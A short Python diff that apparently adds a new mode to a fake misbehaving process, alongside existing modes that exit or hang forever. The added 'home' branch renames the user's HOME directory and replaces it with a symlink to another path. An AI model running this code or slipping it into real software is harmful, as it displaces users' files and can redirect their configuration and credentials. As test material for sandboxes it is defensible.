@@ -87,6 +87,9 @@ def acting_position(betting: str) -> int | None:
 
 if deed == "leaves":
     sys.exit(1)
+if deed == "home":
+    os.rename(os.environ["HOME"], f"{os.environ['HOME']}-moved")
+    os.symlink(what, os.environ["HOME"])
 if deed == "hides":
     while True:
         time.sleep(1)
